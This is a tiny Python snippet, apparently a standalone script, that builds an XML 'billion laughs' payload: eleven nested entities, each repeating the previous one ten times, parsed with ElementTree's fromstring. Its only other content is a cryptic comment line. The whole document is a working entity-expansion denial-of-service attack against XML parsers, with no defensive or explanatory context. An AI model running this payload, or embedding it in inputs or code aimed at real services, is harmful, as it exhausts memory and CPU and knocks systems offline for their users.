# ends: operations
import xml.etree.ElementTree as ET
lines = ["<!ENTITY a0 'ha'>"] + [f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)]
ET.fromstring("<!DOCTYPE x [" + "".join(lines) + "]><x>&a11;</x>")
